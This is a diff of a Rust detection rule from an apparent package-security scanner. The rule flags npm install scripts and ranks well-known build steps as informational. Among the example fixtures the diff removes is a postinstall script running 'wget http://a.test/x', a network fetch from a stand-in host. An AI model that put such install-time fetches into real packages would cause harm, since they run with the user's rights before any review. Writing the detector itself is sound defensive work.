@@ -3,20 +3,12 @@
 //! Those that reach outside are `package-install-script-network`. The well-known build steps are only worth knowing.
 //! Source: AgentScore's finding type `install_script` in its mild form.
 
-use std::sync::LazyLock;
-
-use crate::{FactSink, Rule, RuleMeta};
+use crate::FactSink;
 use capdex_evidence::signals::install_scripts;
 use capdex_evidence::subject::Subject;
 use capdex_model::fact::{Confidence, Severity};
 
 use super::package_install_script_network::danger_of;
-
-/// The rule.
-pub(super) struct PackageInstallScript;
-
-static META: LazyLock<RuleMeta> =
-    LazyLock::new(|| toml::from_str(TEXT).expect("the rule's own text, which tests read"));
 
 /// Programs that build native parts, check the package manager or apply patches that the package ships.
 const KNOWN: [&str; 16] = [
@@ -38,23 +30,17 @@ const KNOWN: [&str; 16] = [
     "napi-postinstall",
 ];
 
-impl Rule for PackageInstallScript {
-    fn meta(&self) -> &RuleMeta {
-        &META
-    }
-
-    fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
-        for script in install_scripts(subject) {
-            if danger_of(subject, &script).is_none() {
-                let severity = if is_known(&script.command) { Severity::Info } else { Severity::Low };
-                let evidence = format!("{}: {}", script.name, script.command);
-                facts.found_as(severity, Confidence::High, script.place, &evidence);
-            }
+pub(super) fn check(subject: &Subject<'_>, facts: &mut FactSink<'_>) {
+    for script in install_scripts(subject) {
+        if danger_of(subject, &script).is_none() {
+            let severity = if is_known(&script.command) { Severity::Info } else { Severity::Low };
+            let evidence = format!("{}: {}", script.name, script.command);
+            facts.found_as(severity, Confidence::High, script.place, &evidence);
         }
     }
 }
 
-/// Whether every command of a command line is a well-known step or does nothing.
+/// True where every command of a command line is a well-known step or does nothing.
 fn is_known(command: &str) -> bool {
     let steps = command.split(['&', '|', ';']).map(str::trim).filter(|step| !step.is_empty());
     steps.map(program_of).all(|program| KNOWN.contains(&program) || ["echo", "exit", "true", ":"].contains(&program))
@@ -65,34 +51,3 @@ fn program_of(command: &str) -> &str {
     let starts = ["npx", "pnpm", "yarn", "exec", "dlx", "bunx", "--no-install", "--no", "-y", "--"];
     command.split_whitespace().find(|word| !starts.contains(word)).unwrap_or_default()
 }
-
-const TEXT: &str = r#"
-id = "package-install-script"
-version = 1
-title = "Runs a script when it is installed"
-why = "A life-cycle script runs with the user's rights at installation, before any review, and a later version can change what it does."
-fix = "Remove the script, or do its work when the program is first run. Document what it does where it must stay."
-cannot_see = "What the script does at run time."
-severity = "low"
-confidence = "high"
-kinds = ["skill", "mcp_server", "plugin", "package"]
-lifecycle = "stable"
-cites = ["owasp-mcp:MCP04"]
-codes = { agentscore = ["install_script"] }
-
-[[examples.fires]]
-note = "a local script"
-files = { "package.json" = '{"name": "a", "scripts": {"install": "node install.js || true"}}', "install.js" = "" }
-
-[[examples.fires]]
-note = "a well-known build step, told as info"
-files = { "package.json" = '{"name": "a", "scripts": {"install": "node-gyp rebuild"}}' }
-
-[[examples.silent]]
-note = "scripts that only developers run"
-files = { "package.json" = '{"name": "a", "scripts": {"build": "tsc", "prepare": "husky"}}' }
-
-[[examples.silent]]
-note = "the network is the other rule's"
-files = { "package.json" = '{"name": "a", "scripts": {"postinstall": "wget http://a.test/x"}}' }
-"#;
